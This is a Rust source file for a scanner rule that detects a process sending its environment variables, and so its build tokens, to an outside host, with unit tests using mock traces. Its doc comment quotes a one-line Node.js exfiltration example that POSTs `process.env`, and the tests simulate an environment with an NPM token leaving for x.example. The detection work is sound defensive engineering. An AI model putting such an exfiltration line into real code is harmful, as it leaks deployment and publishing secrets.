//! **What.** The environment of the process leaves the machine: most of its variables with their values, or several of
//! its secrets, to any host.
//!
//! **Why.** On a build server the environment holds the tokens that deploy and publish. Thieves take all of it, since they
//! do not know the names; an honest program sends the few values that it needs.
//!
//! **Example.** `https.request(url, {method: 'POST'}).end(JSON.stringify(process.env))`
//!
//! **Benign look-alike.** An installer reports `NODE_ENV`, the package manager's user agent and whether it runs on a build
//! server to its own maker. A child process inherits the environment; that stays on the machine.
//!
//! Since 0.1.0.

use super::needles::Needles;
use super::outgoing::Outgoing;
use super::{Confidence, Finding, Layer, Meta, Rule, Severity, View};
use crate::trace::{Event, Kind};
use std::collections::{BTreeMap, BTreeSet};

/// The rule.
#[derive(Debug)]
pub(super) struct Check;

/// So many variables with their values are not picked one by one.
const MANY: usize = 6;

/// Variables that nearly every process has: their names betray an environment whose values the trace does not tell.
const COMMON: &[&str] = &[
    "HOME",
    "INIT_CWD",
    "LANG",
    "LOGNAME",
    "NODE",
    "PATH",
    "PWD",
    "SHELL",
    "SHLVL",
    "TERM",
    "USER",
    "npm_command",
    "npm_config_cache",
    "npm_execpath",
    "npm_lifecycle_event",
    "npm_node_execpath",
    "npm_package_name",
];

impl Rule for Check {
    const META: Meta = Meta {
        id: "env-exfiltration",
        title: "The environment is sent away",
        severity: Severity::Critical,
        confidence: Confidence::High,
        technique: "T1082",
        phases: &[],
    };

    fn check(view: &View<'_>) -> Vec<Finding> {
        let variables = variables(view);
        let mut values = Needles::default();
        for (id, value) in variables.values().enumerate() {
            values.add(value, id);
        }
        let names: Vec<&str> = variables.keys().map(String::as_str).collect();
        let mut told = BTreeSet::new();
        let mut found = Vec::new();
        for (index, out) in view.outgoing().iter().enumerate() {
            let most = out
                .layers
                .iter()
                .map(|layer| pairs(layer, &names, &values).max(common(layer)))
                .max();
            let secrets = secrets(view, index);
            let detail = match most.unwrap_or(0) {
                count if count >= MANY => format!(
                    "{count} variables with their values go to {} {}",
                    out.host,
                    out.via.phrase()
                ),
                _ if secrets.len() > 1 => {
                    let names = secrets.into_iter().collect::<Vec<_>>().join(", ");
                    format!("{names} go to {} {}", out.host, out.via.phrase())
                }
                _ => continue,
            };
            if told.insert(out.host.as_str()) {
                found.push(Self::META.finding(view, &evidence(view, out), detail));
            }
        }
        found
    }
}

/// What leaves, then the reads of the environment before it.
fn evidence<'t>(view: &View<'t>, out: &Outgoing<'t>) -> Vec<&'t Event> {
    let start = out.events.first().map_or(0, |event| event.seq);
    let listed = view
        .of(Kind::EnvList)
        .iter()
        .filter(|event| event.seq < start);
    out.events.iter().chain(listed).copied().collect()
}

/// The variables of all processes that listed their environment, with the last value of each.
fn variables(view: &View<'_>) -> BTreeMap<String, String> {
    let mut variables = BTreeMap::new();
    let mut seen = BTreeSet::new();
    let lists = view.of(Kind::EnvList).iter();
    for event in lists.filter(|event| seen.insert(event.payload)) {
        for pair in view.text(event).split('\0') {
            if let Some((name, value)) = pair.split_once('=') {
                variables.insert(name.to_owned(), value.to_owned());
            }
        }
    }
    variables
}

/// How many variables a layer holds by name and value.
fn pairs(layer: &Layer, names: &[&str], values: &Needles) -> usize {
    let found = values.find(&layer.bytes);
    if found.len() < MANY {
        return 0;
    }
    let text = String::from_utf8_lossy(&layer.bytes);
    let named = found.iter().filter_map(|id| names.get(*id));
    named.filter(|name| text.contains(**name)).count()
}

/// How many of the common variables a layer assigns, as `NAME=`, `"NAME":` or `NAME: '`.
fn common(layer: &Layer) -> usize {
    let text = String::from_utf8_lossy(&layer.bytes);
    let assigned = |name: &&&str| {
        text.match_indices(**name).any(|(at, _)| {
            let before = at.checked_sub(1).and_then(|at| layer_byte(&text, at));
            let after = text.get(at + name.len()..).unwrap_or_default();
            let starts = before.is_none_or(|b| !b.is_ascii_alphanumeric() && b != b'_');
            starts
                && ["=", "\":", "':", ": '"]
                    .iter()
                    .any(|sign| after.starts_with(sign))
        })
    };
    COMMON.iter().filter(assigned).count()
}

fn layer_byte(text: &str, at: usize) -> Option<u8> {
    text.as_bytes().get(at).copied()
}

/// The planted secrets of variables that leave here for a host that may not have them; what was read from a file is not
/// of the environment.
fn secrets<'v>(view: &'v View<'_>, index: usize) -> BTreeSet<&'v str> {
    let leaks = view.leaks().iter();
    leaks
        .filter(|leak| leak.outgoing == index && !leak.allowed && !leak.decoy.variables.is_empty())
        .filter(|leak| {
            let mut files = view.of(Kind::FileRead).iter();
            !files.any(|event| {
                view.decoys_in(view.path(event))
                    .any(|held| held.name == leak.decoy.name)
            })
        })
        .map(|leak| leak.decoy.name.as_str())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::TraceBuilder;

    const ENVIRONMENT: &str = "HOME=/home/u\0USER=udo\0PATH=/usr/bin:/bin\0EDITOR=emacs -nw\0LC_ALL=en_US.UTF-8\0PWD=/home/u/work\0\
        NPM_TOKEN=npm_aaaabbbb\0TERM=xterm-256color";

    #[test]
    fn a_whole_environment_that_leaves_is_found() {
        let mut builder = TraceBuilder::new();
        builder
            .at("a.js", 2)
            .payload(Kind::EnvList, "*", ENVIRONMENT.as_bytes());
        let body = ENVIRONMENT.replace('\0', "\n");
        builder
            .at("a.js", 5)
            .payload(Kind::NetHttp, "POST https://x.example/", body.as_bytes());
        let found = builder.check::<Check>();
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].at.as_ref().map(|at| at.line), Some(5));
    }

    #[test]
    fn known_names_are_enough_where_values_are_not_told() {
        let mut builder = TraceBuilder::new();
        let body =
            br#"{"HOME":"/h","USER":"u","PATH":"/b","PWD":"/h","TERM":"x","SHELL":"/bin/sh"}"#;
        builder.payload(Kind::NetHttp, "POST https://x.example/", body);
        assert_eq!(builder.check::<Check>().len(), 1);
    }

    #[test]
    fn a_few_chosen_values_are_no_finding() {
        let mut builder = TraceBuilder::new();
        builder.payload(Kind::EnvList, "*", ENVIRONMENT.as_bytes());
        builder.payload(
            Kind::NetHttp,
            "POST https://tool.example/",
            br#"{"PWD":"/home/u/work","TERM":"xterm-256color"}"#,
        );
        assert_eq!(builder.check::<Check>(), []);
    }
}
